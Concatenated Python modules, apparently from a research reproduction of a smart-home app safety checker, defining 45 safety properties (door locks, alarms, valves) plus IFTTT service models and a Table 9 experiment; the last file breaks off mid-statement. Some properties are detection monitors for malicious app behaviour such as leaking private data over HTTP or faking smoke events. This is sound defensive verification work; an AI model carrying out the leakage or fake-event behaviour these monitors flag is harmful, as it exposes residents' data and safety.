def _p_door_locked_when_sleeping(state, system):
    sensors = _roles(system, "sleep_sensors")
    sleeping = [s for s in sensors if _attr(state, s, "sleeping") == "sleeping"]
    if not sensors or not sleeping:
        # Night mode is the usual stand-in for "everyone asleep".
        if state.mode != system.night_mode:
            return None
    return _attr(state, _role(system, "main_door_lock"), "lock") == "locked"


def _p_entry_door_not_open_when_away(state, system):
    """Not open when nobody is home, nor at night while people sleep."""
    away = nobody_home(state, system)
    asleep = state.mode == system.night_mode
    if away is not True and not asleep:
        return None
    door = _role(system, "entry_door_control")
    return _attr(state, door, "door") != "open"


# ---------------------------------------------------------------------------
# Location mode (3)
# ---------------------------------------------------------------------------


def _p_mode_away_when_nobody_home(state, system):
    away = nobody_home(state, system)
    if away is not True:
        return None
    return state.mode == system.away_mode


def _p_mode_not_away_when_somebody_home(state, system):
    home = somebody_home(state, system)
    if home is not True:
        return None
    return state.mode != system.away_mode


def _p_mode_home_when_arriving(state, system):
    home = somebody_home(state, system)
    if home is not True:
        return None
    if state.mode == system.night_mode:
        return None  # being home at night is fine
    return state.mode == system.home_mode


# ---------------------------------------------------------------------------
# Security and alarming (14)
# ---------------------------------------------------------------------------


def _p_alarm_on_smoke(state, system):
    if not smoke_detected(state, system):
        return None
    return _alarm_sounding(state, _role(system, "alarm"))


def _p_alarm_on_co(state, system):
    if not co_detected(state, system):
        return None
    return _alarm_sounding(state, _role(system, "alarm"))


def _p_alarm_quiet_without_cause(state, system):
    alarm = _role(system, "alarm")
    if not _alarm_sounding(state, alarm):
        return None
    return (smoke_detected(state, system) or co_detected(state, system)
            or intrusion(state, system) or water_leak(state, system))


def _p_valve_open_when_smoke(state, system):
    """The sprinkler water supply must not be cut while smoke is detected."""
    if not smoke_detected(state, system):
        return None
    return _attr(state, _role(system, "water_valve"), "valve") == "open"


def _p_alarm_on_intrusion_contact(state, system):
    if state.mode != system.away_mode:
        return None
    contacts = _roles(system, "entry_contacts")
    if not any(_attr(state, c, "contact") == "open" for c in contacts):
        return None
    return _alarm_sounding(state, _role(system, "alarm"))


def _p_alarm_on_intrusion_motion(state, system):
    if state.mode != system.away_mode:
        return None
    motions = _roles(system, "motion_sensors")
    if not any(_attr(state, m, "motion") == "active" for m in motions):
        return None
    return _alarm_sounding(state, _role(system, "alarm"))


def _p_alarm_not_silenced_during_smoke(state, system):
    # Equivalent shape to _p_alarm_on_smoke but over the dedicated siren.
    if not smoke_detected(state, system):
        return None
    return _alarm_sounding(state, _role(system, "siren"))


def _p_door_unlocked_when_smoke(state, system):
    """Fire escape: the main door must not stay locked during a fire."""
    if not smoke_detected(state, system):
        return None
    return _attr(state, _role(system, "main_door_lock"), "lock") == "unlocked"


def _p_heater_off_when_smoke(state, system):
    if not smoke_detected(state, system):
        return None
    return not _switch_on(state, _role(system, "heater_outlet"))


def _p_fan_on_when_co(state, system):
    if not co_detected(state, system):
        return None
    return _switch_on(state, _role(system, "fan_outlet"))


def _p_camera_capture_on_intrusion(state, system):
    if not intrusion(state, system):
        return None
    return _attr(state, _role(system, "camera"), "image") == "captured"


def _p_garage_closed_in_away_mode(state, system):
    if state.mode != system.away_mode:
        return None
    return _attr(state, _role(system, "garage_door"), "door") == "closed"


def _p_shades_closed_when_away(state, system):
    if state.mode != system.away_mode:
        return None
    shades = _roles(system, "window_shades")
    if not shades:
        return None
    return all(_attr(state, s, "windowShade") == "closed" for s in shades)


def _p_speaker_quiet_when_away(state, system):
    away = nobody_home(state, system)
    if away is not True:
        return None
    return _attr(state, _role(system, "speaker"), "status") != "playing"


# ---------------------------------------------------------------------------
# Water and sprinkler (3)
# ---------------------------------------------------------------------------


def _p_humidity_in_range(state, system):
    sensors = _roles(system, "humidity_sensors")
    if not sensors:
        return None
    low = _threshold(system, "humidity_low", HUMIDITY_LOW)
    high = _threshold(system, "humidity_high", HUMIDITY_HIGH)
    for sensor in sensors:
        value = _num(_attr(state, sensor, "humidity"))
        if value is not None and not (low <= value <= high):
            return False
    return True


def _p_sprinkler_off_when_wet(state, system):
    if not water_leak(state, system):
        return None
    return not _switch_on(state, _role(system, "sprinkler_outlet"))


def _p_valve_closed_on_leak(state, system):
    if not water_leak(state, system):
        return None
    return _attr(state, _role(system, "leak_shutoff_valve"), "valve") == "closed"


# ---------------------------------------------------------------------------
# Others (5)
# ---------------------------------------------------------------------------


def _p_switches_off_when_away(state, system):
    away = nobody_home(state, system)
    if away is not True:
        return None
    switches = _roles(system, "away_off_switches")
    if not switches:
        return None
    return all(not _switch_on(state, s) for s in switches)


def _p_night_light_on_motion(state, system):
    if state.mode != system.night_mode:
        return None
    motions = _roles(system, "motion_sensors")
    if not any(_attr(state, m, "motion") == "active" for m in motions):
        return None
    return _switch_on(state, _role(system, "night_light"))


def _p_coffee_off_at_night(state, system):
    if state.mode != system.night_mode:
        return None
    return not _switch_on(state, _role(system, "coffee_outlet"))


def _p_space_heater_off_when_away(state, system):
    away = nobody_home(state, system)
    if away is not True:
        return None
    return not _switch_on(state, _role(system, "space_heater_outlet"))


def _p_bulbs_off_in_away_mode(state, system):
    if state.mode != system.away_mode:
        return None
    bulbs = _roles(system, "away_off_bulbs")
    if not bulbs:
        return None
    return all(not _switch_on(state, b) for b in bulbs)


# ---------------------------------------------------------------------------
# catalog assembly
# ---------------------------------------------------------------------------

_THERMO = "Thermostat, AC, and Heater"
_LOCK = "Lock and door control"
_MODE = "Location mode"
_SECURITY = "Security and alarming"
_WATER = "Water and sprinkler"
_OTHERS = "Others"


def _inv(pid, name, category, description, predicate, roles, ltl,
         triggers=()):
    return InvariantProperty(pid, name, category, description, predicate,
                             roles=roles, ltl=ltl, triggers=triggers)


PHYSICAL_PROPERTIES = [
    # Thermostat, AC, and Heater --------------------------------------------
    _inv("P01", "heater not on when temperature above threshold", _THERMO,
         "A heater must not be (left) on when the measured temperature is at "
         "or above the high threshold.",
         _p_heater_not_on_when_hot, ("temp_sensor", "heater_outlet"),
         "[] (temp >= TEMP_HIGH -> heater_off)"),
    _inv("P02", "AC not on when temperature below threshold", _THERMO,
         "An air conditioner must not be on when the temperature is at or "
         "below the low threshold.",
         _p_ac_not_on_when_cold, ("temp_sensor", "ac_outlet"),
         "[] (temp <= TEMP_LOW -> ac_off)"),
    _inv("P03", "AC and heater not both on", _THERMO,
         "An AC and a heater must never run simultaneously.",
         _p_ac_heater_not_both_on, ("heater_outlet", "ac_outlet"),
         "[] !(heater_on && ac_on)"),
    _inv("P04", "heater on when cold and people home", _THERMO,
         "A heater must not be (turned) off when the temperature is below "
         "the low threshold while people are at home.",
         _p_heater_on_when_cold_at_home,
         ("temp_sensor", "heater_outlet", "presence_sensors"),
         "[] ((temp <= TEMP_LOW && home) -> heater_on)",
         triggers=("temperature",)),
    _inv("P05", "thermostat not off when cold and people home", _THERMO,
         "The thermostat must not be off when it is cold and people are home.",
         _p_thermostat_not_off_when_cold_at_home,
         ("temp_sensor", "thermostat", "presence_sensors"),
         "[] ((temp <= TEMP_LOW && home) -> tstat_mode != off)",
         triggers=("temperature",)),

    # Lock and door control --------------------------------------------------
    _inv("P06", "main door locked when nobody home", _LOCK,
         "The main door must be locked when no one is at home.",
         _p_main_door_locked_when_away, ("main_door_lock", "presence_sensors"),
         "[] (nobody_home -> door_locked)"),
    _inv("P07", "main door locked at night", _LOCK,
         "The main door must be locked when the home is in night mode "
         "(people are sleeping).",
         _p_main_door_locked_at_night, ("main_door_lock",),
         "[] (mode == Night -> door_locked)"),
    _inv("P08", "main door locked in Away mode", _LOCK,
         "The main door must be locked whenever the location mode is Away.",
         _p_main_door_locked_in_away_mode, ("main_door_lock",),
         "[] (mode == Away -> door_locked)"),
    _inv("P09", "garage door closed when nobody home", _LOCK,
         "The garage door must be closed when no one is at home.",
         _p_garage_closed_when_away, ("garage_door", "presence_sensors"),
         "[] (nobody_home -> garage_closed)"),
    _inv("P10", "garage door closed at night", _LOCK,
         "The garage door must be closed during night mode.",
         _p_garage_closed_at_night, ("garage_door",),
         "[] (mode == Night -> garage_closed)"),
    _inv("P11", "all locks locked in Away mode", _LOCK,
         "Every lock must be locked whenever the location mode is Away.",
         _p_all_locks_locked_in_away_mode, ("locks",),
         "[] (mode == Away -> all_locked)"),
    _inv("P12", "main door locked while sleeping", _LOCK,
         "The main door must be locked while residents are asleep.",
         _p_door_locked_when_sleeping, ("main_door_lock",),
         "[] (sleeping -> door_locked)"),
    _inv("P13", "entry door control not open when nobody home or at night",
         _LOCK,
         "A controlled entry door must not stand open when no one is home or while the home sleeps (night mode).",
         _p_entry_door_not_open_when_away,
         ("entry_door_control", "presence_sensors"),
         "[] (nobody_home -> entry_door != open)"),

    # Location mode -----------------------------------------------------------
    _inv("P14", "mode Away when nobody home", _MODE,
         "The location mode must change to Away when no one is at home.",
         _p_mode_away_when_nobody_home, ("presence_sensors", "@mode_app"),
         "[] (nobody_home -> mode == Away)"),
    _inv("P15", "mode not Away when somebody home", _MODE,
         "The location mode must not be Away while someone is at home.",
         _p_mode_not_away_when_somebody_home, ("presence_sensors", "@mode_app"),
         "[] (somebody_home -> mode != Away)"),
    _inv("P16", "mode Home when somebody home (day)", _MODE,
         "Outside night mode, the location mode must be Home while someone "
         "is at home.",
         _p_mode_home_when_arriving, ("presence_sensors", "@mode_app"),
         "[] ((somebody_home && mode != Night) -> mode == Home)"),

    # Security and alarming ---------------------------------------------------
    _inv("P17", "alarm sounds on smoke", _SECURITY,
         "An alarm must strobe/siren when smoke is detected.",
         _p_alarm_on_smoke, ("smoke_detectors", "alarm"),
         "[] (smoke -> alarm_sounding)",
         triggers=("smoke",)),
    _inv("P18", "alarm sounds on carbon monoxide", _SECURITY,
         "An alarm must strobe/siren when carbon monoxide is detected.",
         _p_alarm_on_co, ("co_detectors", "alarm"),
         "[] (co -> alarm_sounding)",
         triggers=("carbonMonoxide",)),
    _inv("P19", "alarm quiet without cause", _SECURITY,
         "The alarm must not sound when there is no smoke, CO, leak or "
         "intrusion.",
         _p_alarm_quiet_without_cause, ("alarm",),
         "[] (alarm_sounding -> cause)"),
    _inv("P20", "water valve open during smoke", _SECURITY,
         "A water valve (sprinkler supply) must not be shut off while smoke "
         "is detected.",
         _p_valve_open_when_smoke, ("smoke_detectors", "water_valve"),
         "[] (smoke -> valve_open)",
         triggers=("smoke",)),
    _inv("P21", "alarm on entry contact breach in Away", _SECURITY,
         "Opening an entry contact in Away mode must sound the alarm.",
         _p_alarm_on_intrusion_contact, ("entry_contacts", "alarm"),
         "[] ((mode == Away && contact_open) -> alarm_sounding)",
         triggers=("contact",)),
    _inv("P22", "alarm on motion in Away", _SECURITY,
         "Motion in Away mode must sound the alarm.",
         _p_alarm_on_intrusion_motion, ("motion_sensors", "alarm"),
         "[] ((mode == Away && motion) -> alarm_sounding)",
         triggers=("motion",)),
    _inv("P23", "siren not silenced during smoke", _SECURITY,
         "A dedicated siren must keep sounding while smoke is detected.",
         _p_alarm_not_silenced_during_smoke, ("smoke_detectors", "siren"),
         "[] (smoke -> siren_sounding)",
         triggers=("smoke",)),
    _inv("P24", "fire escape: door unlocked during smoke", _SECURITY,
         "The main door must be unlocked while smoke is detected (escape "
         "route).",
         _p_door_unlocked_when_smoke, ("smoke_detectors", "main_door_lock"),
         "[] (smoke -> door_unlocked)",
         triggers=("smoke",)),
    _inv("P25", "heater off during smoke", _SECURITY,
         "A heater must be switched off while smoke is detected.",
         _p_heater_off_when_smoke, ("smoke_detectors", "heater_outlet"),
         "[] (smoke -> heater_off)",
         triggers=("smoke",)),
    _inv("P26", "ventilation on during CO", _SECURITY,
         "A ventilation fan must run while carbon monoxide is detected.",
         _p_fan_on_when_co, ("co_detectors", "fan_outlet"),
         "[] (co -> fan_on)",
         triggers=("carbonMonoxide",)),
    _inv("P27", "camera captures on intrusion", _SECURITY,
         "A camera must capture an image upon intrusion.",
         _p_camera_capture_on_intrusion, ("camera",),
         "[] (intrusion -> image_captured)",
         triggers=("motion", "contact")),
    _inv("P28", "garage closed in Away mode", _SECURITY,
         "The garage door must be closed whenever the mode is Away.",
         _p_garage_closed_in_away_mode, ("garage_door",),
         "[] (mode == Away -> garage_closed)"),
    _inv("P29", "window shades closed in Away mode", _SECURITY,
         "Window shades must be closed whenever the mode is Away.",
         _p_shades_closed_when_away, ("window_shades",),
         "[] (mode == Away -> shades_closed)"),
    _inv("P30", "speaker quiet when nobody home", _SECURITY,
         "A media player must not be playing when no one is at home.",
         _p_speaker_quiet_when_away, ("speaker", "presence_sensors"),
         "[] (nobody_home -> !playing)"),

    # Water and sprinkler -----------------------------------------------------
    _inv("P31", "soil moisture within range", _WATER,
         "Soil moisture (humidity) must stay within the configured range.",
         _p_humidity_in_range, ("humidity_sensors",),
         "[] (HUM_LOW <= humidity <= HUM_HIGH)",
         triggers=("humidity",)),
    _inv("P32", "sprinkler off while wet", _WATER,
         "The sprinkler must not run while the rain/moisture sensor is wet.",
         _p_sprinkler_off_when_wet, ("water_sensors", "sprinkler_outlet"),
         "[] (wet -> sprinkler_off)"),
    _inv("P33", "supply valve closed on leak", _WATER,
         "The water supply valve must be closed when a leak is detected.",
         _p_valve_closed_on_leak, ("water_sensors", "leak_shutoff_valve"),
         "[] (leak -> valve_closed)",
         triggers=("water",)),

    # Others --------------------------------------------------------------------
    _inv("P34", "designated switches off when nobody home", _OTHERS,
         "Designated devices must not be on when no one is at home.",
         _p_switches_off_when_away, ("away_off_switches", "presence_sensors"),
         "[] (nobody_home -> switches_off)"),
    _inv("P35", "night light on with motion at night", _OTHERS,
         "The night light must turn on when motion is sensed at night.",
         _p_night_light_on_motion, ("motion_sensors", "night_light"),
         "[] ((mode == Night && motion) -> light_on)",
         triggers=("motion",)),
    _inv("P36", "coffee machine off at night", _OTHERS,
         "The coffee machine outlet must be off during night mode.",
         _p_coffee_off_at_night, ("coffee_outlet",),
         "[] (mode == Night -> coffee_off)"),
    _inv("P37", "space heater off when nobody home", _OTHERS,
         "A space heater must be off when no one is at home.",
         _p_space_heater_off_when_away,
         ("space_heater_outlet", "presence_sensors"),
         "[] (nobody_home -> space_heater_off)"),
    _inv("P38", "bulbs off in Away mode", _OTHERS,
         "Designated bulbs must be off whenever the mode is Away.",
         _p_bulbs_off_in_away_mode, ("away_off_bulbs",),
         "[] (mode == Away -> bulbs_off)"),
]
