"""Assembly of the full 45-property catalog and selection helpers."""

from repro.properties.base import (
    KIND_CONFLICT,
    KIND_FAKE_EVENT,
    KIND_LEAKAGE_HTTP,
    KIND_LEAKAGE_SMS,
    KIND_REPEAT,
    KIND_ROBUSTNESS,
    KIND_SECURITY_CMD,
    SafetyProperty,
)
from repro.properties.physical import PHYSICAL_PROPERTIES

_COMMANDS = "Command hygiene"
_LEAKAGE = "Information leakage and suspicious behaviors"
_ROBUST = "Robustness to failures"


#: built once: properties are stateless descriptors, and identity-stable
#: objects let per-system selection results be memoized across repeated
#: ``verify()`` calls (CLI batch, benchmarks)
_SPECIAL_PROPERTIES = None


def _special_properties():
    global _SPECIAL_PROPERTIES
    if _SPECIAL_PROPERTIES is None:
        _SPECIAL_PROPERTIES = _build_special_properties()
    return list(_SPECIAL_PROPERTIES)


def _build_special_properties():
    return [
        SafetyProperty(
            "P39", "free of conflicting commands", _COMMANDS, KIND_CONFLICT,
            "When a single external event happens, an actuator must not "
            "receive two conflicting commands (e.g. both on and off).",
            ltl="per-cascade monitor"),
        SafetyProperty(
            "P40", "free of repeated commands", _COMMANDS, KIND_REPEAT,
            "When a single event happens, an actuator must not receive "
            "multiple repeated commands of the same type/payload (possible "
            "DoS or replay).",
            ltl="per-cascade monitor"),
        SafetyProperty(
            "P41", "no information leakage via network interfaces", _LEAKAGE,
            KIND_LEAKAGE_HTTP,
            "Private information may leave only via message interfaces "
            "(sendSms/sendPush); network interfaces (httpPost et al.) are "
            "flagged.",
            ltl="monitor on http APIs"),
        SafetyProperty(
            "P42", "SMS recipients match configured contacts", _LEAKAGE,
            KIND_LEAKAGE_SMS,
            "The recipient of every outgoing message must match the "
            "configured phone numbers or contacts.",
            ltl="monitor on sendSms"),
        SafetyProperty(
            "P43", "no security-sensitive commands", _LEAKAGE,
            KIND_SECURITY_CMD,
            "Commands such as unsubscribe (disabling an app's functionality) "
            "are security-sensitive and flagged.",
            ltl="monitor on unsubscribe"),
        SafetyProperty(
            "P44", "no fake events", _LEAKAGE, KIND_FAKE_EVENT,
            "An app must not fabricate physical events (e.g. a fake 'smoke "
            "detected' event when there is no smoke).",
            ltl="monitor on sendEvent"),
        SafetyProperty(
            "P45", "robust to device/communication failure", _ROBUST,
            KIND_ROBUSTNESS,
            "An app should check that a command sent to an actuator was "
            "acted upon; upon detecting a failure it must notify users via "
            "SMS/Push.",
            ltl="[] (command_dropped -> <> user_notified)"),
    ]


def default_properties():
    """All 45 properties (38 physical + 7 monitored)."""
    return list(PHYSICAL_PROPERTIES) + _special_properties()


ALL_PROPERTY_IDS = tuple(p.id for p in default_properties())


def build_properties(selection=None):
    """Build the property list, optionally restricted to chosen ids.

    ``selection`` may contain property ids (``"P06"``) or category names;
    ``None`` selects everything (the paper gives users an interface to pick
    the properties they care about, §8).
    """
    properties = default_properties()
    if selection is None:
        return properties
    chosen = set(selection)
    picked = [p for p in properties
              if p.id in chosen or p.category in chosen or p.name in chosen]
    unknown = chosen - ({p.id for p in properties}
                        | {p.category for p in properties}
                        | {p.name for p in properties})
    if unknown:
        raise KeyError("unknown properties: %s" % ", ".join(sorted(unknown)))
    return picked


def properties_by_category():
    """Category -> list of properties (Table 4's grouping plus extras)."""
    by_category = {}
    for prop in default_properties():
        by_category.setdefault(prop.category, []).append(prop)
    return by_category
