"""Safety properties (§8): 45 properties in five families.

* 1 free-of-conflicting-commands property,
* 1 free-of-repeated-commands property,
* 38 safe-physical-state properties (Table 4's six categories), expressed
  as LTL ``G``-invariants parameterized by the system's *device association*
  (which concrete device plays which role),
* 4 information-leakage / security-sensitive-command properties,
* 1 robustness-to-failure property.

Users select the subset to verify (``build_properties``); invariants are
evaluated on quiescent states, the special kinds are monitored during
cascades by :class:`repro.checker.monitor.SafetyMonitor`.
"""

from repro.properties.base import (
    KIND_CONFLICT,
    KIND_FAKE_EVENT,
    KIND_INVARIANT,
    KIND_LEAKAGE_HTTP,
    KIND_LEAKAGE_SMS,
    KIND_REPEAT,
    KIND_ROBUSTNESS,
    KIND_SECURITY_CMD,
    InvariantProperty,
    SafetyProperty,
)
from repro.properties.catalog import (
    ALL_PROPERTY_IDS,
    build_properties,
    default_properties,
    properties_by_category,
)
from repro.properties.selection import app_bound_devices, select_relevant

__all__ = [
    "KIND_CONFLICT",
    "KIND_FAKE_EVENT",
    "KIND_INVARIANT",
    "KIND_LEAKAGE_HTTP",
    "KIND_LEAKAGE_SMS",
    "KIND_REPEAT",
    "KIND_ROBUSTNESS",
    "KIND_SECURITY_CMD",
    "InvariantProperty",
    "SafetyProperty",
    "ALL_PROPERTY_IDS",
    "build_properties",
    "default_properties",
    "properties_by_category",
    "app_bound_devices",
    "select_relevant",
]
