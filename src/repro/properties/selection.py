"""Relevance-based property selection.

"We provide users with an interface to select the list of safety
properties they want to verify" (§8).  When reproducing the paper's
experiments nobody is sitting at that interface, so this module implements
the selection a sensible user would make: verify a physical-state property
only when the system could meaningfully satisfy *or* violate it.

Concretely, an invariant that obliges an actuator to be in some state
(door locked, heater on, alarm sounding) is only selected when at least
one installed app is actually wired to that actuator - otherwise the
environment alone trivially falsifies the property and the report drowns
in violations no app could have caused or prevented.  Monitored
properties (conflicts, repeats, leakage, robustness) are always relevant.
"""

import weakref

from repro.properties.base import KIND_INVARIANT

#: system -> {property-identity tuple: selected list}.  Selection depends
#: only on construction-time facts of the system (bindings, subscriptions,
#: association), so repeated ``verify()`` calls over the same system (CLI
#: batch loops, benchmarks, the Output Analyzer's configuration sweeps)
#: reuse the first result instead of re-walking every property.  Keyed by
#: the property objects' identities: the catalog hands out identity-stable
#: objects, while ad-hoc property lists naturally miss and recompute.
_SELECTION_CACHE = weakref.WeakKeyDictionary()


def select_relevant(system, properties):
    """Filter ``properties`` to the ones relevant to ``system``.

    Keeps every monitored (non-invariant) property, and every invariant
    whose roles are bound *and* whose actuator roles point at devices some
    installed app controls.  Memoized per system (see module cache).
    """
    properties = list(properties)
    try:
        per_system = _SELECTION_CACHE.setdefault(system, {})
    except TypeError:  # un-weakref-able stand-ins (tests): no memo
        per_system = None
    cache_key = tuple(id(prop) for prop in properties)
    if per_system is not None:
        cached = per_system.get(cache_key)
        if cached is not None:
            return list(cached[1])
    selected = _select_relevant(system, properties)
    if per_system is not None:
        # the keyed property objects are retained alongside the result so
        # their ids can never be recycled onto different objects
        per_system[cache_key] = (tuple(properties), tuple(selected))
    return selected


def _select_relevant(system, properties):
    app_devices = app_bound_devices(system)
    subscribed = subscribed_attributes(system)
    selected = []
    for prop in properties:
        if prop.kind != KIND_INVARIANT:
            selected.append(prop)
            continue
        if not prop.applicable(system):
            continue
        if not _actuators_covered(prop, system, app_devices):
            continue
        if not _triggers_covered(prop, subscribed):
            continue
        selected.append(prop)
    return selected


def app_bound_devices(system):
    """Every device name bound to any input of any installed app."""
    devices = set()
    for app in system.apps:
        for input_name in app.binding_names():
            devices.update(app.bound_devices(input_name))
    return devices


def subscribed_attributes(system):
    """Every device attribute some installed app subscribes to."""
    attributes = set()
    for sub in system.subscriptions:
        if sub.source_kind == "device" and sub.attribute:
            attributes.add(sub.attribute)
    return attributes


def _triggers_covered(prop, subscribed):
    """An obligation invariant needs an app that reacts to its trigger.

    "The alarm must sound on carbon monoxide" can only be discharged by an
    app subscribed to CO events - without one, the environment alone
    falsifies the property and the report tells the user nothing about the
    installed apps.  Pure restrictions (empty ``triggers``) always pass.
    """
    triggers = getattr(prop, "triggers", ())
    if not triggers:
        return True
    return any(attribute in subscribed for attribute in triggers)


def _actuators_covered(prop, system, app_devices):
    """Whether every actuator role of the invariant is app-controlled.

    Role values that are not installed devices (thresholds, mode names)
    and sensor devices never disqualify a property.
    """
    for role in prop.roles:
        for name in system.role_list(role):
            if not isinstance(name, str):
                continue
            device = system.devices.get(name)
            if device is None:
                continue
            if device.spec.is_actuator and name not in app_devices:
                return False
    return True
