"""The eight modeled IFTTT services.

The eight services are Amazon Alexa, Google Assistant, SmartThings (its
motion / contact / presence channels register as three entries here),
Ring (doorbell + alarm channels), August Smart Lock, VoIP Calls, Nest
Thermostat and Philips Hue.

"Each service is mapped onto (modeled as) a sensor device(s) or an
actuator device(s).  We have modeled 8 popular IoT-related services based
on the events/actions they provide on the IFTTT website.  For example,
Amazon Alexa and Google Assistant are modeled as sensor devices; Nest
Thermostat is modeled as an actuator device." (§11)

A :class:`Service` carries the vocabulary needed by the rule translator:
which device type in our catalog backs the service, which *triggers* it
offers (each mapping to a device attribute/value subscription) and which
*actions* (each mapping to a device command).
"""


class Trigger:
    """One trigger a service offers: event name -> attribute/value."""

    __slots__ = ("name", "attribute", "value")

    def __init__(self, name, attribute, value):
        self.name = name
        self.attribute = attribute
        self.value = value

    def __repr__(self):
        return "Trigger(%r -> %s.%s)" % (self.name, self.attribute, self.value)


class Action:
    """One action a service offers: command name -> device command."""

    __slots__ = ("name", "command")

    def __init__(self, name, command):
        self.name = name
        self.command = command

    def __repr__(self):
        return "Action(%r -> %s())" % (self.name, self.command)


class Service:
    """One IFTTT service and its device-model mapping."""

    def __init__(self, name, device_type, capability, triggers=(), actions=()):
        self.name = name
        self.device_type = device_type
        #: the capability the generated app's input declares
        self.capability = capability
        self.triggers = {t.name: t for t in triggers}
        self.actions = {a.name: a for a in actions}

    @property
    def is_sensor(self):
        return bool(self.triggers) and not self.actions

    @property
    def is_actuator(self):
        return bool(self.actions)

    def trigger(self, name):
        trigger = self.triggers.get(name)
        if trigger is None:
            raise KeyError("service %r has no trigger %r" % (self.name, name))
        return trigger

    def action(self, name):
        action = self.actions.get(name)
        if action is None:
            raise KeyError("service %r has no action %r" % (self.name, name))
        return action

    def __repr__(self):
        return "Service(%r, %r)" % (self.name, self.device_type)


SERVICES = {}


def _register(svc):
    SERVICES[svc.name] = svc
    return svc


#: voice assistants are sensors: the user's phrase is the physical event
_register(Service(
    "amazon-alexa", "voice-assistant", "voiceCommand",
    triggers=[Trigger("say-phrase", "phrase", "spoken")]))

_register(Service(
    "google-assistant", "voice-assistant", "voiceCommand",
    triggers=[Trigger("say-phrase", "phrase", "spoken")]))

#: SmartThings exposes its sensor zoo and its switches
_register(Service(
    "smartthings-motion", "smartsense-motion", "motionSensor",
    triggers=[Trigger("motion-detected", "motion", "active"),
              Trigger("motion-stopped", "motion", "inactive")]))

_register(Service(
    "smartthings-contact", "smartsense-multi", "contactSensor",
    triggers=[Trigger("opened", "contact", "open"),
              Trigger("closed", "contact", "closed")]))

_register(Service(
    "smartthings-presence", "smartsense-presence", "presenceSensor",
    triggers=[Trigger("you-arrive", "presence", "present"),
              Trigger("you-leave", "presence", "not present")]))

_register(Service(
    "ring-doorbell", "smartsense-motion", "motionSensor",
    triggers=[Trigger("motion-detected", "motion", "active"),
              Trigger("motion-stopped", "motion", "inactive")]))

#: actuator services
_register(Service(
    "august-lock", "zwave-lock", "lock",
    actions=[Action("unlock", "unlock"), Action("lock", "lock")]))

_register(Service(
    "ring-alarm", "siren-strobe", "alarm",
    actions=[Action("sound-siren", "siren"), Action("strobe", "strobe"),
             Action("turn-off", "off")]))

_register(Service(
    "voip-calls", "voip-call", "phoneCall",
    actions=[Action("call-my-phone", "call"), Action("hang-up", "hangup"),
             Action("mute", "mute")]))

#: "Nest Thermostat is modeled as an actuator device" (§11)
_register(Service(
    "nest-thermostat", "thermostat", "thermostat",
    actions=[Action("set-heat", "heat"), Action("set-cool", "cool"),
             Action("turn-off-thermostat", "setThermostatMode")]))

_register(Service(
    "philips-hue", "smart-bulb", "switch",
    actions=[Action("turn-on", "on"), Action("turn-off", "off")]))


def service(name):
    """Look up a modeled service by name."""
    svc = SERVICES.get(name)
    if svc is None:
        raise KeyError("unknown IFTTT service %r (modeled: %s)"
                       % (name, ", ".join(sorted(SERVICES))))
    return svc


def service_names():
    return sorted(SERVICES)
