"""The Table 9 experiment: ten IFTTT rules in one smart home.

"We have validated our basic IFTTT prototype implementation with 10 IoT
rules/applets ... assuming that all of these rules are installed in a
smart home ... we find 7 violations of 4 unsafe physical states." (§11)

The four properties and which rules violate them (Table 9):

=====================================================  ======================
Violated property                                      Related rules
=====================================================  ======================
Siren/strobe is not activated when intruder (motion)   (#1, #4), (#3, #4)
is detected
Siren/strobe is activated when no intruder detected    (#2)
The main/front door is unlocked when no one is home    (#5), (#6)
A phone call is not triggered when intruder detected   (#7, #10), (#8, #10)
=====================================================  ======================
"""

from repro.corpus.loader import corpus_path
from repro.ifttt.applet import load_applets
from repro.ifttt.translator import IFTTTTranslator
from repro.properties.base import InvariantProperty

_CATEGORY = "IFTTT rule safety"


def _motion_active(state, system):
    return any(state.attribute(m, "motion") == "active"
               for m in system.role_list("motion_sensors"))


def _intruder_detected(state, system):
    """Motion or an entry contact opening counts as an intruder (§11)."""
    if _motion_active(state, system):
        return True
    return any(state.attribute(c, "contact") == "open"
               for c in system.role_list("entry_contacts"))


def _alarm_sounding(state, system):
    device = system.role("alarm")
    if device is None:
        return None
    return state.attribute(device, "alarm") in ("strobe", "siren", "both")


def _p_siren_on_intrusion(state, system):
    """Siren/strobe must be activated when motion (intruder) is detected."""
    if not _motion_active(state, system):
        return None
    return _alarm_sounding(state, system)


def _p_siren_only_on_intrusion(state, system):
    """Siren/strobe must not be activated without an intruder."""
    sounding = _alarm_sounding(state, system)
    if sounding is not True:
        return None
    return _motion_active(state, system)


def _p_door_locked_when_away(state, system):
    """The front door must be locked when nobody is home."""
    sensors = system.role_list("presence_sensors")
    if not sensors:
        return None
    if not all(state.attribute(s, "presence") == "not present"
               for s in sensors):
        return None
    return state.attribute(system.role("main_door_lock"), "lock") == "locked"


def _p_call_on_intrusion(state, system):
    """A phone call must be triggered when an intruder is detected."""
    if not _intruder_detected(state, system):
        return None
    device = system.role("voip_call")
    if device is None:
        return None
    return state.attribute(device, "call") == "calling"


TABLE9_PROPERTIES = [
    InvariantProperty(
        "I01", "siren/strobe activated when intruder detected", _CATEGORY,
        "The siren/strobe must be activated when an intruder (motion) is "
        "detected.",
        _p_siren_on_intrusion, roles=("motion_sensors", "alarm"),
        ltl="[] (motion_active -> alarm_sounding)"),
    InvariantProperty(
        "I02", "siren/strobe silent without intruder", _CATEGORY,
        "The siren/strobe must not be activated when no intruder is "
        "detected.",
        _p_siren_only_on_intrusion, roles=("motion_sensors", "alarm"),
        ltl="[] (alarm_sounding -> motion_active)"),
    InvariantProperty(
        "I03", "front door locked when nobody home", _CATEGORY,
        "The main/front door must not be unlocked when no one is at home.",
        _p_door_locked_when_away,
        roles=("presence_sensors", "main_door_lock"),
        ltl="[] (nobody_home -> door_locked)"),
    InvariantProperty(
        "I04", "phone call triggered on intrusion", _CATEGORY,
        "A phone call must be triggered when an intruder is detected.",
        _p_call_on_intrusion, roles=("motion_sensors", "voip_call"),
        ltl="[] (motion_active -> call_active)"),
]

#: Table 9's expected violation attribution: property id -> rule-id groups
TABLE9_EXPECTED = {
    "I01": [("rule01", "rule04"), ("rule03", "rule04")],
    "I02": [("rule02",)],
    "I03": [("rule05",), ("rule06",)],
    "I04": [("rule07", "rule10"), ("rule08", "rule10")],
}


def table9_applets():
    """The ten bundled applets, in rule order."""
    return load_applets(corpus_path("ifttt"))


def table9_registry():
    """name -> SmartApp for the ten translated rules."""
    return IFTTTTranslator().translate_all(table9_applets())


def table9_configuration(contacts=("+1-555-0100",)):
    """The smart-home deployment with all ten rules installed."""
    applets = table9_applets()
    config = IFTTTTranslator().build_configuration(applets,
                                                   contacts=contacts)
    config.association.update({
